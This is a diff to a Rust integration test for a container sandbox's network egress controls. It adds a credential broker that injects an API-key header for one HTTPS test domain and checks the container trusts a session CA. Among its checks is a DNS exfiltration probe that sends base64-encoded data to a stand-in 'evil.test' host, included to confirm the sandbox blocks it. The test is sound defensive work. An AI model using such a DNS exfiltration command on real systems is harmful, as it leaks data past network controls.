@@ -3,6 +3,8 @@
 //! container's loopback by the agent. One warm pool serves a session with a way out and
 //! one without. The proxy runs in this test's process, inside the test's own internet
 //! ([`net::run`]); the containers are the engine's, in network namespaces of their own.
+//! The session with a way out brokers a credential for one HTTPS domain: the same proxy
+//! path adds it, the container's curl trusting the session CA through its variables.
 
 use std::collections::HashMap;
 use std::net::{IpAddr, SocketAddr};
@@ -12,11 +14,14 @@ use std::sync::{Arc, Mutex};
 use std::time::Duration;
 
 use cordon::network::EgressSpec;
+use cordon::network::broker::{Broker, Credential};
+use cordon::network::policy::DomainRule;
 use cordon::network::proxy::dial::{Resolve, StaticResolver};
 use cordon::network::proxy::record::MemoryLog;
 use cordon::sandbox::docker::{DockerBackend, DockerConfig, elf_deps};
 use cordon::sandbox::{Backend, Sandbox, SandboxSpec};
 use cordon_tests::net::{self, SERVER};
+use cordon_tests::tls::TestCa;
 use cordon_tests::{Workspace, cordon_bin, docker_ready};
 use sandbox_agent::proto::ExecRequest;
 
@@ -99,6 +104,13 @@ impl Resolve for Recording {
     }
 }
 
+/// Brokers `X-Api-Key: docker-secret` for secure.test, its server verified by `ca`.
+fn broker(ca: &TestCa) -> Broker {
+    let domain = DomainRule::parse("secure.test", "test: brokeredCredentials").unwrap();
+    let cred = Credential::new(domain, "X-Api-Key", "docker-secret".into(), "env TEST");
+    Broker::new("net-docker-egress", vec![cred], ca.roots()).unwrap()
+}
+
 /// One `CHECK name rc=N out=...` line per check (busybox sh, the image's curl), run after
 /// [`net::CHECK_PRELUDE`].
 const CHECKS: &str = r#"
@@ -113,6 +125,8 @@ check dns_allowed nslookup allowed.test
 check dns_denied nslookup other.test
 check dns_exfil nslookup c2VjcmV0.evil.test
 check bridge curl -sS --max-time 20 -x http://127.0.0.1:3128 http://allowed.test/z
+check brokered curl -sS --max-time 20 https://secure.test/b
+check ca_bundle echo "$CURL_CA_BUNDLE"
 "#;
 
 async fn checks(sandbox: &Sandbox) -> HashMap<String, (i32, String)> {
@@ -146,8 +160,18 @@ fn docker_sessions_with_and_without_a_way_out_share_the_warm_pool() {
             "allowed.test",
             "other.test",
             "unlisted.test",
+            "secure.test",
         ]));
         net::http_server(SocketAddr::new(IpAddr::V4(SERVER), 80), 0).await;
+        let certs = tempfile::tempdir().unwrap();
+        let ca = TestCa::new(certs.path(), &["secure.test"]);
+        let files = HashMap::from([("/b".to_string(), b"served".to_vec())]);
+        let heads = net::file_server(
+            SocketAddr::new(IpAddr::V4(SERVER), 443),
+            files,
+            Some(ca.acceptor()),
+        )
+        .await;
         let backend = DockerBackend::new(DockerConfig {
             pool_size: 2,
             default_image: IMAGE.into(),
@@ -162,11 +186,12 @@ fn docker_sessions_with_and_without_a_way_out_share_the_warm_pool() {
         let ws = Workspace::new();
         let log = Arc::new(MemoryLog::default());
         let mut egress = EgressSpec::new(net::policy(
-            &["allowed.test", "other.test"],
+            &["allowed.test", "other.test", "secure.test"],
             &["other.test"],
         ));
         egress.log = log.clone();
         egress.resolver = resolver.clone();
+        egress.broker = Some(Arc::new(broker(&ca)));
         let spec = SandboxSpec::new("net-docker-egress", ws.path()).with_egress(egress);
         let with = backend.start(&spec).await.unwrap();
         assert!(
@@ -185,6 +210,17 @@ fn docker_sessions_with_and_without_a_way_out_share_the_warm_pool() {
         for refused in ["denied", "unlisted", "ip_literal"] {
             assert_eq!(get(refused), (0, "403".into()), "{refused}");
         }
+        // The brokered domain: the header reached the server, the container trusted the
+        // session CA through the bundle its agent wrote in the run dir.
+        assert_eq!(get("brokered"), (0, "served".into()));
+        assert_eq!(get("ca_bundle"), (0, "/run/cordon/ca-bundle.crt".into()));
+        let heads = heads.lock().unwrap().clone();
+        assert!(
+            heads
+                .iter()
+                .any(|h| h.contains("X-Api-Key: docker-secret\r\n")),
+            "{heads:?}"
+        );
         // Around the proxy there is no route out of the container.
         for direct in ["noproxy", "noproxy_ip"] {
             assert_ne!(get(direct).0, 0, "{direct}: {:?}", get(direct));
